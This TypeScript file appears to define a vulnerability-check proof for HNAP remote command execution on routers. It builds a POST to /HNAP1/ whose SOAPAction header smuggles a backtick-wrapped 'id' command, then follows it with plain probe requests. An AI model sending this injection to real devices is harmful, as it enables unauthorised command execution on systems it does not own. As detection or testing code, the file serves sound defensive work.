import { type Proof, get, post, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof('hnap-rce', post('/HNAP1/', '', { headers: { SOAPAction: 'http://purenetworks.com/HNAP1/`id`' } }), [
    get('/HNAP1/'),
    post('/HNAP1/'),
  ]),
]
